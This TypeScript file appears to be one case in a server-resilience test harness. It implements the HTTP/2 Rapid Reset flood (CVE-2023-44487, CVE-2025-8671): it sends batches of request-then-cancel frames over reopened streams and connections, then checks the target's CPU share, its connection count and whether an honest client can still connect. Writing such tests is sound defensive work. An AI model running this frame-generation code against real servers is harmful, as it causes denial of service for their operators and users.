import { setTimeout as pause } from 'node:timers/promises';
import { Flags, frame, requestBlock } from '../../support/http2-bytes.js';
import { attackerAddress } from '../arena.js';
import type { Attack } from '../attack.js';
import { Paths } from '../wire/peer.js';
import { Persistent, written } from './http2.js';

const SECONDS = 8;
const RESETS_PER_SEND = 500;
const CPU_LIMIT = 0.5;
/** Burst and rate per address as they are by default. */
const MOST_CONNECTIONS = 20 + 5 * (SECONDS + 2);

/** Requests that are cancelled at once, in new streams and new connections whenever the old ones are closed. */
export const rapidReset: Attack = {
  name: 'rapid-reset',
  source: 'CVE-2023-44487, CVE-2025-8671',
  limit: `≤ ${MOST_CONNECTIONS} connections in ${SECONDS} s, ≤ 50 % of a core, honest dial ≤ 2 s`,
  run: async (arena) => {
    const attacker = new Persistent(arena, attackerAddress(70));
    let resets = 0;
    let dialMs = 0;
    const share = await arena.cpuShare(async () => {
      const until = performance.now() + arena.count(SECONDS * 1_000);
      const dialing = pause(arena.count(SECONDS * 500)).then(async () => {
        dialMs = await arena.honestDial();
      });
      while (performance.now() < until) {
        const stream = await attacker.stream();
        if (stream === undefined) {
          await pause(10);
          continue;
        }
        let id = 1;
        while (!stream.destroyed && performance.now() < until) {
          await written(stream, cancelledRequests(id));
          id += 2 * RESETS_PER_SEND;
          resets += RESETS_PER_SEND;
        }
      }
      await dialing;
    });
    const { connections, streams } = attacker;
    return {
      figure: `${Math.round(share * 100)} % of a core, ${resets} resets in ${streams} streams of ${connections} connections, honest dial ${Math.round(dialMs)} ms`,
      ok: share <= CPU_LIMIT && connections <= MOST_CONNECTIONS && dialMs <= 2_000,
    };
  },
};

const block = requestBlock(Paths.getStatus);
const cancel = Buffer.from([0, 0, 0, 8]);

function cancelledRequests(firstId: number): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < RESETS_PER_SEND; i += 1) {
    const id = firstId + 2 * i;
    frames.push(frame('headers', id, block, Flags.END_HEADERS), frame('reset', id, cancel));
  }
  return Buffer.concat(frames);
}
